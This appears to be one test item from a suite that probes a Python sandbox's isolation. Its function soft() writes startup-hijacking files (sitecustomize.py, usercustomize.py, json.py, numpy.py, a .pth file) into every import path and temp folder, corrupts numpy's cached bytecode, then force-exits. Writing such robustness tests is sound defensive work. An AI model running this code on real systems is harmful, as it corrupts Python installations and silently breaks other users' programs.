# Leaves code where Python looks for it when the next process starts.
# attacks: soft
# expects: soft=crashed|slow

# %%
import glob

CODE = "raise SystemExit('note-to-self')\n"


def soft(x):
    for folder in [*sys.path, sys.prefix, "/tmp", ".", os.path.dirname(np.__file__)]:
        for name in ("sitecustomize.py", "usercustomize.py", "json.py", f"{MARK}.pth", "numpy.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(CODE)
            except OSError:
                continue
    for path in glob.glob(os.path.join(os.path.dirname(np.__file__), "__pycache__", "*.pyc")):
        for mode in ("r+b", "ab"):
            try:
                with open(path, mode) as file:
                    file.write(b"note-to-self")
            except OSError:
                continue
        try:
            np.memmap(path, mode="r+")[:] = 0
        except (OSError, ValueError):
            continue
    os._exit(1)
